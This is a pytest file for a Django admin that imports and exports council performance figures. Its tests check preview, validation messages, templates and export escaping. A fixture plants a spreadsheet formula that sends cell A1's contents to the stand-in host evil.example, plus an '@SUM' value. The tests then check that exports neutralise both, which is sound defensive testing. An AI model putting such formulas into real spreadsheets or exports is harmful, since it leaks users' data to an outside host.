"""Officers upload a quarter's return in the admin: preview every row, then confirm."""

import csv
import html
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import Workbook, load_workbook

from measures.importers.imports import import_return
from measures.importers.resources import template_period
from measures.importers.tabular import ImportRejected
from measures.models import Actual, State
from measures.rules.periods import Period

FILES = Path(__file__).parent / "files"

pytestmark = pytest.mark.django_db

Q2_RETURN = (
    "Measure, Period ,Value,Covers_Label,Commentary\n"
    "LAC-RATE,2017/18 Q2,47.2,As at 30 September 2017,Fewer children came into care.\n"
    "CP-PLANS,2017/18 Q2,351,As at 30 September 2017,\n"
)


def upload(client: Client, text: str | bytes, name: str = "q2.csv") -> object:
    data = text.encode("utf-8-sig") if isinstance(text, str) else text
    return client.post(
        "/admin/measures/actual/import/",
        {
            "resource": "0",
            "format": "1" if name.endswith(".xlsx") else "0",
            "import_file": SimpleUploadedFile(name, data),
        },
    )


def listed_problems(page: str) -> list[str]:
    """The problems the import page lists, as text."""
    block = page.split('<ul class="import-problems"', 1)[1].split("</ul>", 1)[0]
    items = re.findall(r"<li>(.*?)</li>", block, re.S)
    return [html.unescape(" ".join(item.split())) for item in items]


def test_officer_previews_then_confirms_a_return_as_drafts(client: Client, demo) -> None:
    client.force_login(demo["officer"])
    preview = upload(client, Q2_RETURN)
    page = preview.content.decode()
    assert preview.status_code == 200
    assert "Confirm import" in page
    assert "47.2" in page and "351" in page
    assert not Actual.objects.filter(year=2017, quarter=2).exists()

    confirm = preview.context["confirm_form"]
    response = client.post(
        "/admin/measures/actual/process_import/",
        {name: confirm.initial[name] for name in confirm.fields},
    )
    assert response.status_code == 302
    drafts = Actual.objects.filter(year=2017, quarter=2).order_by("measure__reference")
    assert [(a.measure.reference, a.value, a.state) for a in drafts] == [
        ("CP-PLANS", Decimal(351), State.DRAFT),
        ("LAC-RATE", Decimal("47.2"), State.DRAFT),
    ]


def test_a_bad_upload_shows_each_rows_problem_and_changes_nothing(client: Client, demo) -> None:
    client.force_login(demo["officer"])
    before = Actual.objects.count()
    bad = Q2_RETURN + "LAC-16-17-LEARN,2017/18 Q2,87%,,\nEYFS-GLD,2016/17 Q4,70,,\n"
    page = upload(client, bad).content.decode()
    assert "Confirm import" not in page
    assert "&#x27;87%&#x27; is not a plain number" in page
    assert "You can only load figures for measures you own" in page
    assert Actual.objects.count() == before


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def export(client: Client, fmt: str) -> object:
    form = client.get("/admin/measures/actual/export/").context["form"]
    choice = next(value for value, label in form.fields["format"].choices if label == fmt)
    data = {name: field.initial for name, field in form.fields.items() if field.initial is True}
    return client.post("/admin/measures/actual/export/", {**data, "format": choice, "resource": 0})


@pytest.fixture
def hostile_figure(demo) -> Actual:
    figure = Actual.objects.get(measure__reference="LAC-RATE", year=2017, quarter=1)
    figure.commentary = HYPERLINK
    figure.covers_label = "@SUM(1+1)"
    figure.forecast = Decimal("-3.5")
    figure.save()
    return figure


def test_the_admin_csv_export_quotes_cells_that_could_run(
    client: Client, demo, hostile_figure
) -> None:
    client.force_login(demo["lead"])
    response = export(client, "csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if r["measure"] == "LAC-RATE" and r["period"] == "2017/18 Q1")
    assert row["commentary"] == "'" + HYPERLINK
    assert row["covers_label"] == "'@SUM(1+1)"
    assert row["forecast"] == "-3.5"


def test_the_admin_xlsx_export_has_no_formula(client: Client, demo, hostile_figure) -> None:
    client.force_login(demo["lead"])
    sheet = openpyxl.load_workbook(io.BytesIO(export(client, "xlsx").content)).active
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    headers = [cell.value for cell in sheet[1]]
    row = next(
        [cell.value for cell in r]
        for r in sheet.iter_rows(min_row=2)
        if r[0].value == "LAC-RATE" and r[1].value == "2017/18 Q1"
    )
    record = dict(zip(headers, row, strict=True))
    assert record["commentary"] == HYPERLINK
    assert record["covers_label"] == "@SUM(1+1)"
    assert record["forecast"] == -3.5


def test_an_exported_csv_with_quoted_cells_loads_back_unchanged(
    client: Client, demo, hostile_figure
) -> None:
    client.force_login(demo["lead"])
    exported = export(client, "csv").content.decode("utf-8-sig")
    mine = "\n".join(
        line for n, line in enumerate(exported.splitlines()) if n == 0 or "LAC-RATE" in line
    )
    preview = upload(client, mine + "\n")
    assert preview.status_code == 200
    assert "Confirm import" in preview.content.decode()
    result = preview.context["result"]
    assert result.totals["skip"] == result.total_rows
    figure = Actual.objects.get(pk=hostile_figure.pk)
    assert (figure.commentary, figure.covers_label) == (HYPERLINK, "@SUM(1+1)")


def test_every_problem_is_listed_as_text_numbered_as_import_return_numbers_it(
    client: Client, demo
) -> None:
    path = FILES / "return_q2_blank_lines.csv"
    client.force_login(demo["lead"])
    page = upload(client, path.read_bytes()).content.decode()
    shown = listed_problems(page)
    with pytest.raises(ImportRejected) as rejected:
        import_return(path=path, publish=False, user=demo["lead"])
    command = [f"Row {p.row}, {p.column}: {p.message}" for p in rejected.value.problems]
    assert shown == command
    # The blank line 4 counts, as in a spreadsheet: the 91% is on row 6.
    assert "Row 6, value: '91%' is not a plain number: write numbers like 87 or 0.15, " in (
        " ".join(shown)
    )
    assert "Row 5, value: '1,234' is not a plain number" in " ".join(shown)
    assert any(line.startswith("Row 7, numerator:") for line in shown)
    assert "validation-error-count" not in page  # no more hover-only tooltips
    assert Actual.objects.filter(year=2017, quarter=2).count() == 0


def test_an_excel_upload_is_numbered_the_same_way(client: Client, demo) -> None:
    rows = list(csv.reader(io.StringIO((FILES / "return_q2_blank_lines.csv").read_text())))
    book = Workbook()
    for row in rows:
        book.active.append(row or [None])
    out = io.BytesIO()
    book.save(out)
    client.force_login(demo["lead"])
    shown = listed_problems(upload(client, out.getvalue(), "q2.xlsx").content.decode())
    assert any(line.startswith("Row 6, value: '91%'") for line in shown)


def test_a_file_with_wrong_columns_says_so_in_words(client: Client, demo) -> None:
    client.force_login(demo["officer"])
    page = upload(client, "reference,quarter,figure\nLAC-RATE,2017/18 Q2,47\n").content.decode()
    assert "The file has no “measure” and “period” columns." in html.unescape(page)
    assert "encountered while trying to read file" not in page


def test_the_preview_shows_the_status_each_figure_would_get(client: Client, demo) -> None:
    client.force_login(demo["officer"])
    page = upload(client, Q2_RETURN).content.decode()
    preview = page.split('class="return-preview"', 1)[1]
    rows = re.findall(r"<tr>(.*?)</tr>", preview, re.S)[1:]
    cells = [
        [html.unescape(cell.strip()) for cell in re.findall(r"<td>(.*?)</td>", row, re.S)]
        for row in rows
    ]
    assert [c[:5] for c in cells] == [
        ["2", "New", "LAC-RATE", "2017/18 Q2", "47.2 per 10,000"],
        ["3", "New", "CP-PLANS", "2017/18 Q2", "351"],
    ]
    assert "Not achieved" in cells[0][5]  # outside 43 to 47
    assert "Achieved" in cells[1][5] and "Not" not in cells[1][5]  # inside 320 to 380


def test_the_template_lists_the_officers_own_measures_after_an_example_row(
    client: Client, demo
) -> None:
    client.force_login(demo["officer"])
    response = client.get("/admin/measures/actual/import/template.csv")
    assert response["Content-Disposition"] == 'attachment; filename="return-2017-18-Q2.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == [
        "measure",
        "period",
        "value",
        "numerator",
        "denominator",
        "covers_from",
        "covers_to",
        "covers_label",
        "commentary",
        "forecast",
        "reason",
    ]
    assert rows[1][:3] == ["EXAMPLE", "2017/18 Q2", "48.7"]
    listed = [row[0] for row in rows[2:]]
    assert "LAC-RATE" in listed and "CP-PLANS" in listed
    assert "EYFS-GLD" not in listed  # the lead's
    assert all(row[1] == "2017/18 Q2" and not any(row[2:]) for row in rows[2:])


def test_the_excel_template_has_the_return_first_and_the_measures_beside_it(
    client: Client, demo
) -> None:
    client.force_login(demo["lead"])
    response = client.get("/admin/measures/actual/import/template.xlsx")
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Return", "Your measures"]
    rows = list(book["Return"].iter_rows(values_only=True))
    assert rows[1][0] == "EXAMPLE"
    eyfs = next(r for r in rows if r[0] == "EYFS-GLD")
    assert eyfs[1] == "2017/18 Q4"  # an annual measure's row is for its reporting quarter
    titles = {r[0]: r[1] for r in book["Your measures"].iter_rows(values_only=True)}
    assert titles["LAC-RATE"] == "Looked after children"


def test_the_example_row_left_in_is_refused_by_name(client: Client, demo) -> None:
    client.force_login(demo["officer"])
    template = client.get("/admin/measures/actual/import/template.csv").content
    shown = listed_problems(upload(client, template).content.decode())
    assert "Row 2, measure: This is the template's example row: delete it, then upload the " in (
        " ".join(shown)
    )


@pytest.mark.parametrize(
    ("period", "quarterly", "due", "expected"),
    [
        ("2017/18 Q2", True, None, "2017/18 Q2"),
        ("2017/18 Q2", False, 4, "2017/18 Q4"),
        ("2017/18 Q4", False, 4, "2017/18 Q4"),
        ("2017/18 Q3", False, 2, "2018/19 Q2"),
        ("2017/18 Q1", False, None, "2017/18 Q4"),
    ],
)
def test_a_template_row_is_for_the_quarter_the_measure_is_due(
    period, quarterly, due, expected
) -> None:
    assert template_period(Period.parse(period), quarterly=quarterly, due_quarter=due).label == (
        expected
    )
